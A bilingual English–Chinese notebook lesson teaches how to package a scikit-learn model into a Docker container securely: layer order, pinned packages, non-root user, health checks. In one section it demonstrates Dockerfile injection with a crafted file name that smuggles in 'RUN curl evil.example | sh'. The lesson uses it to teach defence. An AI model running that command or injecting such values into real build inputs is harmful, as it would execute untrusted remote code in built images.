# %% [markdown]
# # 5 Into a container
#
# After this lesson you can
#
# - say what each line of a Dockerfile is for, and why their order matters,
# - lock exactly the packages that serving your model needs,
# - know that a container will answer as your notebook does, before you build it.
#
# No engine for containers is needed.

# %% [markdown] lang="zh-TW"
# # 5 裝進容器
#
# 學完這一課，你可以
#
# - 說出 Dockerfile 每一行的用途，以及順序為什麼重要，
# - 只鎖定模型服務真正需要的套件，
# - 在建置之前，就知道容器的答案會和 notebook 一樣。
#
# 不需要安裝容器引擎。

# %%
from palmerpenguins import load_penguins
from sklearn.linear_model import LogisticRegression
from sklearn.pipeline import make_pipeline
from sklearn.preprocessing import FunctionTransformer

penguins = load_penguins().dropna()
X, y = penguins[["bill_length_mm", "bill_depth_mm"]], penguins["species"]

def add_ratio(frame):
    return frame.assign(ratio=frame["bill_length_mm"] / frame["bill_depth_mm"])

model = make_pipeline(FunctionTransformer(add_ratio), LogisticRegression(max_iter=1000)).fit(X, y)

# %% [markdown]
# ## See it first
#
# One call writes a folder that holds everything. The list is below *9 files*:

# %% [markdown] lang="zh-TW"
# ## 先看成果
#
# 一次呼叫，就寫出一個應有盡有的資料夾。清單收在 **9 files** 底下：

# %%
from nbdeploy import deploy

service = deploy(model, name="penguins", example=X)
bundle = service.bundle("work/05/penguins")
bundle

# %% [markdown]
# Will it answer there as it does here? The rehearsal starts the service from that folder, in an
# environment with the locked packages and nothing else, and asks the same rows:

# %% [markdown] lang="zh-TW"
# 到了那邊，答案會和這裡一樣嗎？預演會在只裝了鎖定套件的環境裡，從這個資料夾啟動服務，再問同樣的資料列：

# %%
report = bundle.check(quick=True)
report

# %% [markdown]
# Your function `add_ratio` exists in this notebook only, and it works there: it travels inside of
# the model.
#
# ## Take it apart
#
# This is the chapter's class. Which user runs the process? Who notices when it hangs? Which versions
# get installed if the requirements say just `scikit-learn`?

# %% [markdown] lang="zh-TW"
# 你的函式 `add_ratio` 只存在這份 notebook 裡，在那邊卻照樣能用：它跟著模型一起搬過去了。
#
# ## 拆開來看
#
# 這是教材裡的類別。行程用哪個使用者的身分執行？卡住了誰會發現？
# 需求檔裡如果只寫 `scikit-learn`，裝到的會是哪個版本？

# %% tags=["chapter"]
class DockerConfig:
    @staticmethod
    def generate_dockerfile(requirements_path: str, model_path: str, port: int = 8000) -> str:
        return f"""
FROM python:3.8-slim

WORKDIR /app

COPY {requirements_path} /app/requirements.txt
RUN pip install -r requirements.txt

COPY {model_path} /app/model/
COPY . /app/

EXPOSE {port}

CMD ["uvicorn", "main:app", "--host", "0.0.0.0", "--port", "{port}"]
"""


print(DockerConfig.generate_dockerfile("requirements.txt", "model/model.joblib"))

# %% [markdown]
# Root, nobody, and whatever is newest on that day. Also, `COPY . /app/` takes along everything that
# lies around: data, keys, notebooks. Here is the one of our bundle. Read its comments:

# %% [markdown] lang="zh-TW"
# 答案是 root、沒有人、當天最新的版本。而且 `COPY . /app/` 會把手邊的東西全部帶走：資料、金鑰、notebook。
# 下面是我們部署包裡的 Dockerfile，請讀它的註解：

# %%
bundle.dockerfile

# %% [markdown]
# - **Two stages.** What installs (pip, its cache) stays in the first; the second one runs.
# - **Order.** What changes seldom stands above what changes often. The engine keeps the result of each
#   line until a copied file changes.
# - **`USER`** is a number: the process may read the model, and own nothing.
# - **`HEALTHCHECK`** asks the service itself, not just whether the process lives.
# - **Brackets** after `ENTRYPOINT` and `CMD`: no shell in between, so the signal to stop arrives, and
#   requests in flight are answered.
# - **`--trust sha256:...`** A container serves this model, and no other that somebody put in its place.
#
# The chapter's second call writes how it is run. What does `cap_drop` take away?

# %% [markdown] lang="zh-TW"
# - **兩個階段**：負責安裝的東西（pip 和它的快取）留在第一個階段，真正執行的是第二個。
# - **順序**：少變動的放上面，常變動的放下面。只要複製進去的檔案沒變，引擎就沿用每一行先前的結果。
# - **`USER`** 是一個數字：行程可以讀模型，但任何檔案都不歸它所有。
# - **`HEALTHCHECK`** 問的是服務本身，而不只是看行程還在不在。
# - `ENTRYPOINT` 和 `CMD` 後面的**中括號**：中間不經過 shell，停止的訊號才送得到，處理到一半的請求也才會回完。
# - **`--trust sha256:...`**：容器只提供這一個模型，被掉包的一概不收。
#
# 教材的第二個呼叫寫的是容器怎麼執行。`cap_drop` 拿掉了什麼？

# %%
from nbdeploy import DockerConfig as BetterConfig

BetterConfig.generate_compose_file("penguins", "penguins:1.0")

# %% [markdown]
# All special rights of root, although the process is not root: two locks on one door. And without
# `NBDEPLOY_TOKEN` it does not start at all.
#
# ## Break it on purpose
#
# A name comes from a form on a web page. What happens to it in the chapter's text?

# %% [markdown] lang="zh-TW"
# 拿掉 root 的所有特權，雖然行程本來就不是 root：一扇門，兩道鎖。而且沒有 `NBDEPLOY_TOKEN`，它根本不會啟動。
#
# ## 故意弄壞它
#
# 有個名稱是從網頁表單來的。放進教材的 Dockerfile 會變成什麼？

# %% tags=["nbval-check-output"]
from nbdeploy import ContainerError

evil = "model.joblib /app/\nRUN curl evil.example | sh\nCOPY model.joblib"
text = DockerConfig.generate_dockerfile("requirements.txt", evil)
print("chapter: ", [line for line in text.splitlines() if "evil" in line])
try:
    BetterConfig.generate_dockerfile("requirements.txt", evil)
except ContainerError as error:
    print("nbdeploy:", str(error)[:60], "...")

# %% [markdown]
# It became a command that runs while the image is built.
#
# The second classic: a model reads a file that is on your disk only. In the notebook all is well.

# %% [markdown] lang="zh-TW"
# 它變成一道在建置映像檔時執行的命令。
#
# 第二個經典狀況：模型會讀一個只存在你磁碟上的檔案。在 notebook 裡一切正常。

# %%
import pandas as pd

pd.Series([1.0]).to_csv("work/05/factor.csv", index=False)

def scale(frame):
    return frame * pd.read_csv("work/05/factor.csv").iloc[0, 0]

careless = make_pipeline(FunctionTransformer(scale), LogisticRegression(max_iter=1000)).fit(X, y)
with deploy(careless, name="careless", example=X) as trial:
    print(trial.bundle("work/05/careless").check(quick=True))

# %% [markdown]
# Found in seconds, without building anything.
#
# ## Predict, then run
#
# How many packages are installed where this notebook runs? How many of them does the container need?

# %% [markdown] lang="zh-TW"
# 幾秒鐘就找到了，什麼都不必建置。
#
# ## 先猜，再執行
#
# 執行這份 notebook 的環境裝了幾個套件？其中有幾個是容器需要的？

# %%
from importlib.metadata import distributions

everything = {each.name for each in distributions()}
locked = [line.partition("==")[0] for line in bundle.requirements.splitlines() if "==" in line]
print(f"{len(locked)} of {len(everything)} packages")
print("matplotlib" in locked, "jupyterlab" in locked, "scikit-learn" in locked)

# %% [markdown]
# `pip freeze` would take them all. nbdeploy looks at the model instead: which modules its bytes name,
# what your functions import, and what these packages need in turn.
#
# ## Two tasks
#
# **05.1** Write `again(lines, changed)`: the lines of one stage that an engine runs again when the
# file `changed` is another one. That is the first `COPY` line that names the file, and all below it.
#
# **05.2** Write `pinned(names)`: for the names of installed packages a sorted list of lines such as
# `"numpy==2.4.6"`, with the versions that are installed here.

# %% [markdown] lang="zh-TW"
# `pip freeze` 會全部帶走。nbdeploy 則是看模型：它的內容提到哪些模組、你的函式匯入了什麼，以及這些套件又需要什麼。
#
# ## 兩個練習
#
# **05.1** 寫一個 `again(lines, changed)`：當檔案 `changed` 變了，引擎會重做某個階段的哪幾行？
# 也就是第一個提到這個檔案的 `COPY`，以及它下面的每一行。
#
# **05.2** 寫一個 `pinned(names)`：給它已安裝套件的名稱，回傳排序好的串列，每一行像 `"numpy==2.4.6"`，
# 版本就是這裡安裝的版本。

# %%
from nbdeploy.teach import check, hint

# Your turn. Mark the lines below and press Ctrl + / (Cmd + / on a Mac).

# def again(lines, changed): ...
# check("05.1", again)

# def pinned(names): ...
# check("05.2", pinned)

# %% [markdown]
# *One answer is in the folded cell below. `hint("05.1")` and `hint("05.2")` help before.*

# %% [markdown] lang="zh-TW"
# 下面收合的儲存格裡有一個參考答案。在那之前，`hint("05.1")` 和 `hint("05.2")` 可以幫忙。

# %% jupyter={"source_hidden": true}
from importlib.metadata import version

def again(lines, changed):
    copies = [line.startswith("COPY") and changed in line.split() for line in lines]
    return lines[copies.index(True):] if True in copies else []

check("05.1", again)
check("05.2", lambda names: sorted(f"{name}=={version(name)}" for name in names))

# %% [markdown]
# ## In production
#
# - **BentoML** and **MLflow** also write an image from a model; neither adds a health check, and
#   MLflow's image runs as root.
# - **KServe** needs no image of yours: it mounts the model into a prepared server.
# - **SageMaker** starts your image with the argument `serve`, **Vertex AI** tells port and paths in
#   variables. The same image understands both.
#
# ## Summary
#
# A container is a promise: the same packages, the same model, the same start, everywhere. The lock,
# the digest and the rehearsal make it one that is kept.
#
# **Quiz**
#
# 1. Why is the model copied after the packages are installed?
# <details><summary>Answer</summary>The model changes often. Above it, nothing is done again, so a new
# model is a build of seconds.</details>
#
# 2. Why is the token no line of the Dockerfile?
# <details><summary>Answer</summary>Whoever has the image can read every line of it. A secret is given
# when the container starts.</details>
#
# 3. The image has another minor version of Python than your notebook. What breaks?
# <details><summary>Answer</summary>Functions of the notebook travel as compiled code, which only the
# same minor version reads.</details>

# %% [markdown] lang="zh-TW"
# ## 在正式環境
#
# - **BentoML** 和 **MLflow** 也會從模型產生映像檔；兩者都不加健康檢查，MLflow 的映像檔還用 root 執行。
# - **KServe** 不需要你的映像檔：它把模型掛載到準備好的伺服器裡。
# - **SageMaker** 用參數 `serve` 啟動你的映像檔，**Vertex AI** 用變數告知連接埠和路徑。同一個映像檔兩種都懂。
#
# ## 重點整理
#
# 容器是一個承諾：到哪裡都是同樣的套件、同樣的模型、同樣的啟動方式。
# 有了鎖定、摘要和預演，這個承諾才守得住。
#
# **小測驗**
#
# 1. 為什麼要先裝套件，再複製模型？
# <details><summary>答案</summary>模型常常換。它上面的步驟都不必重做，所以換個模型，建置只要幾秒。</details>
#
# 2. 為什麼 token 不寫在 Dockerfile 裡？
# <details><summary>答案</summary>拿到映像檔的人，每一行都讀得到。機密要在容器啟動時才給。</details>
#
# 3. 映像檔的 Python 和 notebook 的次版本不同，什麼會壞掉？
# <details><summary>答案</summary>notebook 裡的函式是以編譯過的程式碼搬過去的，只有同一個次版本讀得懂。</details>

# %% [markdown]
# ## Clean up

# %% [markdown] lang="zh-TW"
# ## 收拾

# %%
from nbdeploy import stop_all

stop_all()
